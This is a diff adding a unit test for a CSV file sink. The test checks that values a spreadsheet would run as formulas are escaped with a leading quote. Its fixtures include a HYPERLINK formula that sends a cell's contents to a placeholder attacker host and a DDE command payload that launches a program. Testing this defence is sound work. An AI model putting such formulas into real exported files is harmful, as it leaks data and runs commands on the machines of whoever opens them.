@@ -18,6 +18,19 @@ describe('sinks > file', () => {
     );
   });
 
+  it('defuses text a spreadsheet would run as a formula, but not numbers', async () => {
+    const path = join(dir, 'f.csv');
+    await new FileSink(path).write([
+      { ua: '=HYPERLINK("http://evil.example/?"&A1,"x")', phone: '+44 7700 900898', z: -2.5 },
+      { ua: "-2+3+cmd|' /C calc'!A0", phone: '@sum', z: 1 },
+    ]);
+    expect(await readFile(path, 'utf8')).toBe(
+      'ua,phone,z\n' +
+        `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",'+44 7700 900898,-2.5\n` +
+        `'-2+3+cmd|' /C calc'!A0,'@sum,1\n`,
+    );
+  });
+
   it('never truncates: rows with other columns go to a numbered sibling', async () => {
     const path = join(dir, 'd.csv');
     await writeFile(path, 'other,header\n1,2\n');
